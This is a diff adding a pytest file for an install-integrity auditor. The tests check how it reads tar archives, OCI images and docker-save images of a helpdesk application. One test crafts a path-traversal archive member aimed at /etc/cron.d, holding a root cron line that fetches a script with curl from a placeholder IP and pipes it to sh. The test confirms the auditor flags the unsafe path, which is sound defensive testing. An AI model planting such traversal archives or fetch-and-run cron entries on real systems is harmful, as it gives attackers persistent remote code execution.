@@ -1,0 +1,114 @@
+"""Targets other than a directory: archives and container images, read in place."""
+
+from __future__ import annotations
+
+import hashlib
+import io
+import json
+import tarfile
+
+from conftest import SAMPLES, audit_json, by_category
+
+GENUINE = SAMPLES / "sampledesk-7.0.3-genuine"
+
+
+def _add_tree(tar: tarfile.TarFile, src, prefix: str, skip=()):
+    for p in sorted(src.rglob("*")):
+        rel = p.relative_to(src).as_posix()
+        if rel in skip:
+            continue
+        tar.add(p, arcname=f"{prefix}/{rel}" if prefix else rel, recursive=False)
+
+
+def test_tar_gz_archive_target(tmp_path):
+    tgz = tmp_path / "install.tar.gz"
+    with tarfile.open(tgz, "w:gz") as tar:
+        _add_tree(tar, GENUINE, "opt/sampledesk")
+    report, _ = audit_json(tgz, "--root", "opt/sampledesk", expect_rc=0)
+    assert report["target"] == {"path": str(tgz), "kind": "archive", "root": "opt/sampledesk"}
+    assert report["identified_version"] == "7.0.3"
+    assert report["findings"] == []
+
+
+def test_archive_with_a_member_escaping_the_root(tmp_path):
+    tgz = tmp_path / "evil.tar"
+    with tarfile.open(tgz, "w") as tar:
+        _add_tree(tar, GENUINE, "")
+        info = tarfile.TarInfo("Kernel/../../etc/cron.d/vendor")
+        data = b"* * * * * root curl http://203.0.113.7/x | sh\n"
+        info.size = len(data)
+        tar.addfile(info, io.BytesIO(data))
+    report, _ = audit_json(tgz, expect_rc=1)
+    assert by_category(report)["unsafe-path"] == {"Kernel/../../etc/cron.d/vendor"}
+
+
+def _layer(files: dict[str, bytes | None], base=None) -> bytes:
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w") as tar:
+        if base is not None:
+            _add_tree(tar, base, "opt/sampledesk")
+        for name, data in files.items():
+            info = tarfile.TarInfo(name)
+            info.size = len(data or b"")
+            info.mode = 0o644
+            tar.addfile(info, io.BytesIO(data or b""))
+    return buf.getvalue()
+
+
+def _oci_image(path, layers: list[bytes]):
+    def blob(data):
+        return "sha256:" + hashlib.sha256(data).hexdigest(), data
+    blobs = [blob(layer) for layer in layers]
+    config = blob(json.dumps({"architecture": "amd64", "os": "linux",
+                              "rootfs": {"type": "layers", "diff_ids": [d for d, _ in blobs]}}).encode())
+    manifest = blob(json.dumps({"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
+                                "config": {"mediaType": "application/vnd.oci.image.config.v1+json",
+                                           "digest": config[0], "size": len(config[1])},
+                                "layers": [{"mediaType": "application/vnd.oci.image.layer.v1.tar", "digest": d,
+                                            "size": len(b)} for d, b in blobs]}).encode())
+    index = json.dumps({"schemaVersion": 2, "manifests": [
+        {"mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": manifest[0], "size": len(manifest[1]),
+         "annotations": {"org.opencontainers.image.ref.name": "helpdesk:7.0.3"}}]}).encode()
+    with tarfile.open(path, "w") as tar:
+        def put(name, data):
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            tar.addfile(info, io.BytesIO(data))
+        put("oci-layout", b'{"imageLayoutVersion": "1.0.0"}')
+        put("index.json", index)
+        for d, b in blobs + [config, manifest]:
+            put("blobs/sha256/" + d.split(":")[1], b)
+
+
+def test_oci_image_layers_and_whiteouts(tmp_path):
+    """Layer 1: the genuine install. Layer 2 (the vendor's): a changed module, an added file,
+    a deleted script (whiteout)."""
+    base = _layer({}, GENUINE)
+    vendor = _layer({
+        "opt/sampledesk/Kernel/System/Ticket.pm": b"package Kernel::System::Ticket;\n# vendor\n1;\n",
+        "opt/sampledesk/Kernel/System/Telemetry.pm": b"package Kernel::System::Telemetry;\n1;\n",
+        "opt/sampledesk/scripts/.wh.backup.pl": None,
+    })
+    image = tmp_path / "helpdesk.oci.tar"
+    _oci_image(image, [base, vendor])
+    report, _ = audit_json(image, "--root", "opt/sampledesk", expect_rc=1)
+    assert report["target"]["kind"] == "image"
+    assert report["identified_version"] == "7.0.3"
+    assert by_category(report) == {"modified-file": {"Kernel/System/Ticket.pm"},
+                                   "added-file": {"Kernel/System/Telemetry.pm"},
+                                   "missing-file": {"scripts/backup.pl"}}
+
+
+def test_docker_save_format(tmp_path):
+    base = _layer({}, GENUINE)
+    image = tmp_path / "helpdesk.docker.tar"
+    with tarfile.open(image, "w") as tar:
+        for name, data in [("abc/layer.tar", base),
+                           ("manifest.json", json.dumps([{"Config": "cfg.json", "RepoTags": ["helpdesk:7"],
+                                                          "Layers": ["abc/layer.tar"]}]).encode()),
+                           ("cfg.json", b"{}")]:
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            tar.addfile(info, io.BytesIO(data))
+    report, _ = audit_json(image, "--root", "opt/sampledesk", expect_rc=0)
+    assert report["target"]["kind"] == "image" and report["findings"] == []
